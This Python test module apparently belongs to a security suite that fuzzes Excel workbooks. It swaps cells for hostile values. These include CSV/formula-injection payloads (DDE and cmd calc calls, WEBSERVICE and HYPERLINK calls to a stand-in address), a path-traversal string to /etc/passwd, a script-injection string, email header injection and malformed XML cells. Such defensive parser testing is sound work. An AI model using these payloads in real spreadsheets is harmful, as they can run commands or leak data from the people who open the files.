"""Hostile values: cells of a good workbook take on what no cell should hold."""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from xml.sax.saxutils import escape

from tests.attack.packages import ADDRESS, CANARY, parts_of, with_part

EVIL = ("cmd|' /C calc'!A0", f'HYPERLINK("{ADDRESS}","x")', f'WEBSERVICE("{ADDRESS}")', f"'file:///[{CANARY}.xlsx]A'!A1", "EXEC(\"calc\")",
        'DDE("cmd";"/C calc";"x")', f'IMPORTXML("{ADDRESS}","//a")', "1+1", "A1", "_xlfn.LAMBDA(x,x(x))", "REPT(\"x\",1E9)")  # fmt: skip
HOSTILE_TEXTS = (
    *(f"={evil}" for evil in EVIL), *(f"{mark}{EVIL[0]}" for mark in "+-@"), "\t=1+1", "\r=1+1", "'=1+1", "=", "-", "+", "@SUM(A1)",
    "9" * 5_000, "1." + "9" * 5_000, "9" * 5_000 + ".1", "1e308", "1e9999", "-1e-9999", "NaN", "inf", "-0", "0x10", "１２", "٣", "½", "Ⅳ", "1,5", "1 000,5",
    "1.1.1.1.1.1", "...", "0.0", "-1.4", "I" * 10_000, "I-" * 5_000, "1, " * 10_000, "(" * 5_000, "а" * 32_767, "а" * 200_000, "а " * 50_000, "\n" * 5_000,
    "А\u0301" * 5_000, "\u202e\u2066нэр", "\u200b\u200d\ufeff", "😀" * 3_000, "\ud7ff\ue000\uffee", "_x0000__x0007__xFFFF__xD800_", "_x005F_x0041_",
    "{0}{a}{", "%s%n%d%(a)s", "{__class__.__mro__}", "<script>alert(1)</script>", "]]>&amp;<!--", "../../etc/passwd", "CON", "a\\b/c:d*e?f\"g<h>i|j",
    "x@y.mn\r\nBcc: z@w.mn", "a" * 300 + "@" + "b" * 300, "\"><img src=x>", "2025-13-45", "9999999-99-99", "31 дүгээр сарын 99-ний өдөр", "99 дүгээр улиралд",
    "0 дугаар улиралд", "999999999999 хувиас доошгүй", "-5-аас доошгүй", "80 хувь", "0.8", "101", "үнэлэх боломжгүй", "Тухай бүр", "Зорилт 1", "Зорилт 99999999999999999999",
    "year", "q1", "mn", "goals", "100,70,30,0", "0", "1", "-1", "3.5", "True",
)  # fmt: skip
# cells as they stand in the XML: the address is put in at %s
RAW = (
    '<c r="%s"><v>NaN</v></c>', '<c r="%s"><v>INF</v></c>', '<c r="%s"><v>1e999</v></c>', '<c r="%s"><v>-1e999</v></c>', '<c r="%s"><v/></c>',
    '<c r="%s"><v>0x1F</v></c>', '<c r="%s"><v>1 2</v></c>', '<c r="%s"><v>99999999999999999999999999</v></c>', '<c r="%s"><v>1e-320</v></c>',
    '<c r="%s" t="b"><v>7</v></c>', '<c r="%s" t="b"><v>1</v></c>', '<c r="%s" t="e"><v>#DIV/0!</v></c>', '<c r="%s" t="e"><v>#ЧТОЭТО!</v></c>', '<c r="%s" t="e"/>',
    '<c r="%s" t="s"><v>99999999</v></c>', '<c r="%s" t="s"><v>-1</v></c>', '<c r="%s" t="s"><v>x</v></c>', '<c r="%s" t="s"/>', '<c r="%s" t="zzz"><v>1</v></c>',
    '<c r="%s" t="d"><v>2025-02-31T25:61:61</v></c>', '<c r="%s" t="d"><v>2025-02-03</v></c>', '<c r="%s" t="d"><v>-9999-01-01</v></c>', '<c r="%s" t="d"><v>сар</v></c>',
    '<c r="%s" s="99999999"><v>1</v></c>', '<c r="%s" s="-1"><v>1</v></c>', '<c r="%s" s="x"><v>1</v></c>', '<c r="%s" t="inlineStr"/>', '<c r="%s" t="inlineStr"><is/></c>',
    '<c r="%s" t="inlineStr"><is><r><rPr><b/></rPr><t>а</t></r><r><t xml:space="preserve"> б</t></r><rPh sb="0" eb="1"><t>в</t></rPh></is></c>',
    '<c r="%s" t="str"><f>1+1</f><v>а</v></c>', '<c r="%s"><f t="shared" ref="A1:XFD1048576" si="0">A1</f><v>1</v></c>', '<c r="%s"><f t="shared" si="999"/><v>1</v></c>',
    '<c r="%s"><f t="array" ref="A1:XFD1048576">ROW()</f><v>1</v></c>', '<c r="%s"><f t="dataTable" ref="A1:B2" dt2D="1" dtr="1" r1="A1" r2="ZZZZ9"/><v>1</v></c>',
    '<c r="%s"><f/></c>', '<c r="%s"><v>1</v><v>2</v></c>', '<c r="%s"><x><v>1</v></x></c>', '<c r="%s"><v><![CDATA[1]]></v></c>', '<c r="%s"><v>&#49;</v></c>',
    '<c r="%s"><v>45000.99999999999</v></c>', '<c r="%s"><v>2958466</v></c>', '<c r="%s"><v>-5</v></c>', '<c r="%s"><v>0.8</v></c>',
    '<c><v>1</v></c>', '<c r=""><v>1</v></c>', '<c r="A0"><v>1</v></c>', '<c r="AAAA1"><v>1</v></c>', '<c r="A99999999999"><v>1</v></c>', '<c r="1A"><v>1</v></c>',
    '<c r="a1"><v>1</v></c>', '<c r="$A$1"><v>1</v></c>', '<c r="А1"><v>1</v></c>', "",
)  # fmt: skip
_CELL = re.compile(rb'<c r="([A-Z]+\d+)"[^>]*?(?:/>|>.*?</c>)', re.DOTALL)


def cell(address: str, text: str) -> bytes:
    """A cell that holds text."""
    legal = "".join(
        letter
        for letter in text
        if letter in "\t\n\r" or letter >= " " and not "\ud800" <= letter <= "\udfff" and letter not in "\ufffe\uffff"
    )
    return f'<c r="{address}" t="inlineStr"><is><t xml:space="preserve">{escape(legal)}</t></is></c>'.encode()


def sheets_of(data: bytes) -> list[str]:
    return [name for name, raw in parts_of(data) if name.startswith("xl/worksheets/sheet") and b"<c " in raw]


def change_cells(data: bytes, rng: random.Random, other: Callable[[str, random.Random], bytes], most: int = 6) -> bytes:
    """Replace some cells of one sheet: each by what `other` makes for its address."""

    def change(raw: bytes) -> bytes:
        places = list(_CELL.finditer(raw))
        for match in sorted(rng.sample(places, min(len(places), rng.randint(1, most))), key=lambda one: -one.start()):
            raw = raw[: match.start()] + other(match[1].decode(), rng) + raw[match.end() :]
        return raw

    return with_part(data, rng.choice(sheets_of(data)), change)


def _strange(data: bytes, rng: random.Random) -> bytes:
    return change_cells(data, rng, lambda address, chance: cell(address, chance.choice(HOSTILE_TEXTS)))


def _raw(data: bytes, rng: random.Random) -> bytes:
    def other(address: str, chance: random.Random) -> bytes:
        made = chance.choice(RAW)
        return (made % address if "%s" in made else made).encode()

    return change_cells(data, rng, other)


def _formulas(data: bytes, rng: random.Random) -> bytes:
    return change_cells(
        data,
        rng,
        lambda address, chance: f'<c r="{address}" t="str"><f>{escape(chance.choice(EVIL))}</f><v>1</v></c>'.encode(),
    )


def _noise(data: bytes, rng: random.Random) -> bytes:
    def other(address: str, chance: random.Random) -> bytes:
        return cell(
            address,
            "".join(
                chr(
                    chance.choice(
                        (chance.randrange(32, 127), chance.randrange(0x400, 0x460), chance.randrange(0xA0, 0xD7FF))
                    )
                )
                for _ in range(chance.randrange(60))
            ),
        )

    return change_cells(data, rng, other)


def _moved(data: bytes, rng: random.Random) -> bytes:
    """Cells that stand twice, or under another's address."""
    places = [f"{chance.choice('ABCDEFGHIJKLMNO')}{chance.randrange(1, 40)}" for chance in (rng,) for _ in range(6)]
    return change_cells(data, rng, lambda address, chance: cell(chance.choice(places), "x"))


RANDOM = {
    "strange words": _strange,
    "strange cells": _raw,
    "others' formulas": _formulas,
    "noise in cells": _noise,
    "cells moved": _moved,
}
